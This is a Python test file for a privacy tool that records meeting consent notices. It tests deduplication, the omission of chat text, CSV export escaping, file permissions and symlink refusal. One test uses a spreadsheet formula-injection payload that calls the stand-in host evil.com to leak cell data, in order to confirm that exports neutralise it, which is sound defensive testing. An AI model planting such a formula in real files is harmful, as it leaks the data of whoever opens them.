"""What the history keeps and how its files are guarded, with the real binaries: repeats of a
notice, no quotes of people's words, exports safe to open, a private folder, no symlink
followed. Run by test_host_process.py."""
import json
import os
import stat
import subprocess

from hostlib import HOST, Host, Temp, event


class WhatIsKept(Temp):
    def test_a_page_reloading_with_the_same_notice_adds_one_event(self):
        # 9 notices, the page reloading every 400 ms for 30 s: 75 loads, each a new event id.
        h = Host(self.db)
        stored = repeats = 0
        for load in range(75):
            batch = [event(f"load{load}-n{k}", site="app.zoom.us", evidence=f"Notice {k} of this meeting") for k in range(9)]
            for e in batch:
                e["meeting"] = "hmac-sha256:" + "ab" * 32
            r = h.ask({"id": load, "op": "log", "events": batch})
            stored += r["stored"]
            repeats += r["repeats"]
        self.assertEqual(h.close(), 0)
        self.assertEqual(stored, 9)
        self.assertEqual(repeats, 74 * 9)

    def test_words_from_chat_are_not_kept(self):
        e = event("chat-1", evidence="Priya: the results of my biopsy came back")
        e["source"] = "chat"
        h = Host(self.db)
        self.assertEqual(h.ask({"id": 1, "op": "log", "events": [e]})["stored"], 1)
        self.assertEqual(h.close(), 0)
        out = self.history("show", "chat-1", "--json").stdout
        self.assertNotIn("biopsy", out)
        for name in (self.db, self.db + "-wal"):
            if os.path.exists(name):
                with open(name, "rb") as f:
                    self.assertNotIn(b"biopsy", f.read(), name)

    def test_csv_exports_are_safe_to_open_in_a_spreadsheet(self):
        e = event("csv-1", evidence='=HYPERLINK("https://evil.example/?q="&A1,"Recording consent")')
        e["page_title"] = "+1 555 0100"
        h = Host(self.db)
        self.assertEqual(h.ask({"id": 1, "op": "log", "events": [e]})["stored"], 1)
        self.assertEqual(h.close(), 0)
        csv = self.history("export").stdout
        row = csv.splitlines()[1]
        self.assertIn(',"\'=HYPERLINK(', row)
        self.assertIn(',"\'+1 555 0100",', row)
        self.assertNotIn(",=", row)
        self.assertNotIn(",+", row)

    def test_show_site_part_and_choice_filters(self):
        h = Host(self.db)
        c = event("c1", site="app.zoom.us")
        c.update(type="choice", choice="left")
        r = h.ask({"id": 1, "op": "log", "events": [event("z1", site="app.zoom.us"), event("m1", site="meet.google.com"), c]})
        self.assertEqual(r["stored"], 3)
        self.assertEqual(h.close(), 0)
        self.assertEqual(sorted(e["event_id"] for e in json.loads(self.history("--json", "--site", "zoom").stdout)), ["c1", "z1"])
        self.assertEqual(self.history("--json", "--choice", "left").stdout.count('"event_id"'), 1)
        self.assertIn("You left", self.history("show", "c1").stdout)
        r = self.history("show", "nope", check=False)
        self.assertEqual(r.returncode, 1)
        self.assertIn('no event "nope"', r.stderr)
        self.assertIn("You left", self.history("meetings").stdout)

    def test_a_nul_in_a_search_is_a_bad_request(self):
        h = Host(self.db)
        r = h.ask({"id": 1, "op": "query", "search": "rec\u0000orded"})
        self.assertEqual(r["error"]["code"], "bad_request")
        self.assertIn("NUL", r["error"]["message"])
        self.assertEqual(h.close(), 0)


class Files(Temp):
    def test_the_default_folder_is_made_private(self):
        data = os.path.join(self.tmp.name, "xdg")
        folder = os.path.join(data, "consentlens")
        os.makedirs(folder)
        os.chmod(folder, 0o755)
        env = {k: v for k, v in os.environ.items() if k != "CONSENTLENS_DB"}
        env["XDG_DATA_HOME"] = data
        r = subprocess.run([HOST, "request", '{"id":1,"op":"hello"}'], env=env, capture_output=True, text=True)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(stat.S_IMODE(os.stat(folder).st_mode), 0o700)
        self.assertEqual(stat.S_IMODE(os.stat(os.path.join(folder, "history.db")).st_mode), 0o600)
        # Folders it creates are private from the start, whatever the umask.
        deep = os.path.join(self.tmp.name, "new", "deeper", "history.db")
        r = subprocess.run([HOST, "request", '{"id":1,"op":"hello"}'], env=dict(os.environ, CONSENTLENS_DB=deep),
                           capture_output=True, text=True, preexec_fn=lambda: os.umask(0))
        self.assertEqual(r.returncode, 0, r.stderr)
        for d in ("new", "new/deeper"):
            self.assertEqual(stat.S_IMODE(os.stat(os.path.join(self.tmp.name, d)).st_mode), 0o700, d)

    def test_a_symlinked_database_is_refused_and_its_target_untouched(self):
        os.makedirs(os.path.dirname(self.db))
        target = os.path.join(self.tmp.name, "notes.txt")
        with open(target, "w") as f:
            f.write("mine")
        os.chmod(target, 0o644)
        os.symlink(target, self.db)
        h = Host(self.db)
        r = h.ask({"id": 1, "op": "hello"})
        self.assertEqual(r["error"]["code"], "storage")
        self.assertIn("symbolic link", r["error"]["message"])
        self.assertIn(self.db, r["error"]["message"])
        self.assertEqual(h.close(), 0)
        self.assertEqual(stat.S_IMODE(os.stat(target).st_mode), 0o644)
        with open(target) as f:
            self.assertEqual(f.read(), "mine")
